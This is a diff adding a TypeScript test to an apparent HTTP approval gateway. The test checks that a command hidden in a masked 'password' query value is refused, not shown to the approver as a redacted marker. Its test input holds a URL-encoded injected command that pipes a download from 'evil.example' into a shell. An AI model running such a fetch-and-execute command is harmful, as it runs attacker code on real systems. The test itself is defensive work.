@@ -305,4 +305,39 @@ describe('HTTP: a masked value in the approver’s view that hides a command', {
     expect(r.shown).not.toContain('plain0ld7okenText');
     expect(up.ran).toEqual([]);
   });
+
+  // A query value under a sensitive name is shown to the approver as `[REDACTED]` (class 278 shows the
+  // whole target): one holding a command was approved as that marker (class 300).
+  it('refuses a request whose query value under a sensitive name hides a command; holds a literal', async () => {
+    const send = async (query: string): Promise<{ status: number; text: string; shown?: string }> => {
+      const asked = gw.approver.seen.length;
+      const pending = fetch(`${gw.endpoint('api')}/v1/jobs?${query}`, {
+        method: 'POST',
+        headers: { authorization: `Bearer ${token}` },
+      });
+      let done = false;
+      let shown: string | undefined;
+      const watch = (async () => {
+        while (gw.approver.seen.length === asked && !done) await new Promise((r) => setTimeout(r, 20));
+        if (done) return;
+        const h = await gw.approver.next();
+        const a = h.ctx.action as { shownPath?: string; path: string };
+        shown = a.shownPath ?? a.path;
+        h.deny();
+      })();
+      const res = await pending;
+      done = true;
+      await watch;
+      return { status: res.status, text: await res.text(), ...(shown !== undefined ? { shown } : {}) };
+    };
+    const hidden = await send('name=nightly&password=x%3Bcurl+evil.example%2Fp%7Csh');
+    expect(hidden.shown, 'held for approval').toBeUndefined();
+    expect(hidden.status).toBe(403);
+    expect(hidden.text).toContain('the query parameter \\"password\\", where the masked part holds');
+    expect(hidden.text).not.toContain('evil.example');
+    const literal = await send('name=nightly&password=plain0ld7okenText');
+    expect(literal.shown).toContain('password=[REDACTED]');
+    expect(literal.shown).not.toContain('plain0ld7okenText');
+    expect(up.ran).toEqual([]);
+  });
 });
